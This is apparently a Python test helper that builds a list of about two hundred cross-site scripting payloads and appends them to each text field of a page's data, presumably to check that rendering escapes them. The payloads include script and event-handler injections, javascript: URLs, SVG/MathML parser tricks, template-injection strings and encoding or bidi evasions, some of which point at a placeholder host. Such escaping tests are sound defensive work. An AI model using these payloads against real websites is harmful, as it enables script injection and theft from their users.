"""Two hundred ways to have a script run out of a text, and any page's answer with them in each of its texts.

Families of them, each with variations: script elements, handlers, addresses, SVG and MathML, what a browser mends,
templates, breaking out of attributes, titles, comments, styles and data, charsets, and signs that turn the writing.
"""

import dataclasses
import enum
import itertools
from collections.abc import Iterator, Mapping
from typing import Any

from markupsafe import Markup

RUN = "__xss(1)"
THERE = "//elsewhere.invalid"

_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "onanimationstart", "ontoggle open",
    "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscroll", "onpageshow",
)  # fmt: skip
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input",
    "video src=x",
    "audio src=x",
    "details",
    "iframe",
    "marquee",
    "select",
)
_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</select>", "</svg>", "]]>", "`>")


def _with(handler: str) -> str:
    name, _, more = handler.partition(" ")
    return f"{name}={RUN} {more}".strip()


def _scripts() -> Iterator[str]:
    yield from (f"{out}<script>{RUN}</script>" for out in _OUT)
    yield from (
        f"<{name}>{RUN}</{name}>" for name in ("SCRIPT", "ScRiPt", "script/x", "script\t", "script\n", "script\f")
    )
    yield from (f"<script src={THERE}/{each}.js></script>" for each in range(3))
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script type=module>{RUN}</script>"


def _handled() -> Iterator[str]:
    for place, (element, handler) in enumerate(itertools.product(_ELEMENTS, _HANDLERS)):
        yield f"{_OUT[place % len(_OUT)]}<{element} {_with(handler)}>"


def _broken_out() -> Iterator[str]:
    for quote in ('"', "'", "", "`"):
        for handler in ("onfocus autofocus", "onmouseover", "onerror", "onload", "onclick"):
            yield f"x{quote} {_with(handler)} y={quote}"
        yield f"x{quote}/{_with('onfocus autofocus')}/"


def _addressed() -> Iterator[str]:
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
                   "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,"):  # fmt: skip
        yield f"{scheme}{RUN}"
    yield f"<a href=javascript:{RUN}>x</a>"
    yield f"<form action=javascript:{RUN}><button>x</button></form>"
    yield f"<iframe src=javascript:{RUN}></iframe>"
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    yield f"<object data=data:text/html,<script>{RUN}</script>></object>"
    yield f"<embed src={THERE}/x.swf>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield f"<base href={THERE}/>"
    yield f"<link rel=stylesheet href={THERE}/x.css>"
    yield f"<img src={THERE}/x.png>"


def _drawn() -> Iterator[str]:
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>"
    yield f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>></svg>"
    yield f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<template><script>{RUN}</script></template><img src=x onerror={RUN}>"
    yield f"<xmp><p title='</xmp><svg/onload={RUN}>'>"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"


def _told() -> Iterator[str]:
    for inside in ("7*7", f"constructor.constructor('{RUN}')()", "config", "''.__class__"):
        yield f"{{{{{inside}}}}}"
    yield from (
        f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]", "{% debug %}", "{%raw%}<svg/onload=1>{%endraw%}",
        f"</style><style>@import '{THERE}/x.css';", f"x:expression({RUN})", f"background:url({THERE}/y.png)",
        f'"}}}});{RUN};({{"a":"', f"'-{RUN}-'", f"\\'-{RUN}//", f"\u2028{RUN}\u2028", f"</script>\u2029{RUN}",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\ufeff<script>{RUN}</script>",
        f"%3Cscript%3E{RUN}%3C/script%3E", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u202e<script>{RUN}</script>",
        f"\u2066<img src=x onerror={RUN}>\u2069", f"<img src=x \u200bonerror={RUN}>",
        f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml x='<svg/onload={RUN}>'?>", f"<a hx-get={THERE}/hx hx-trigger=load>x</a>",
        f"<p hx-on:click={RUN} hx-on-htmx-load={RUN}>x</p>",
    )  # fmt: skip


ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(itertools.chain(_scripts(), _handled(), _broken_out(), _addressed(), _drawn(), _told()))
)

BLOCK = 10
"""Of so many is a text made, one after the other."""


CODES = frozenset({
    "AgreementCard.grade", "ChangeRow.sort", "ChangeRow.state", "Event.sort", "Foreseen.persons", "IntakeGlance.state",
    "IntakeView.state", "Reached.step", "Sight.step", "TokenCard.purposes[]", "[choices][handling][]",
    "[choices][subject_category][]",
})  # fmt: skip
"""Texts of closed lists, for which a page has words of its own: it cannot be made of another."""


class Filled:
    """An answer made anew with attacks in each of its texts but those that are codes; it remembers which."""

    def __init__(self, begin: int = 0) -> None:
        self.number = begin
        self.names: set[str] = set()

    def filled(self, value: Any, name: str) -> Any:
        """Return a value with attacks in its texts; ``name`` says of what it is a field."""
        if isinstance(value, (Markup, enum.Enum)) or value is None:
            return value
        if isinstance(value, str):
            return self._text(value, name)
        if dataclasses.is_dataclass(value) and not isinstance(value, type):
            return self._object(value)
        if isinstance(value, Mapping):
            return {key: self.filled(each, f"{name}[{key}]") for key, each in value.items()}
        if isinstance(value, (list, tuple)) and not hasattr(value, "_fields"):
            return type(value)(self.filled(each, f"{name}[]") for each in value)
        if isinstance(value, tuple):
            pairs = zip(value._fields, value, strict=True)
            return type(value)(*(self.filled(each, f"{type(value).__name__}.{field}") for field, each in pairs))
        return value

    def _object(self, value: Any) -> Any:
        said = {
            each.name: self.filled(getattr(value, each.name), f"{type(value).__name__}.{each.name}")
            for each in dataclasses.fields(value)
            if each.init
        }
        try:
            return dataclasses.replace(value, **said)
        except (TypeError, ValueError):
            return value

    def _text(self, value: str, name: str) -> str:
        if name in CODES:
            return value
        self.names.add(name)
        at = self.number * BLOCK
        self.number += 1
        return value + "".join(ATTACKS[(at + place) % len(ATTACKS)] for place in range(BLOCK))
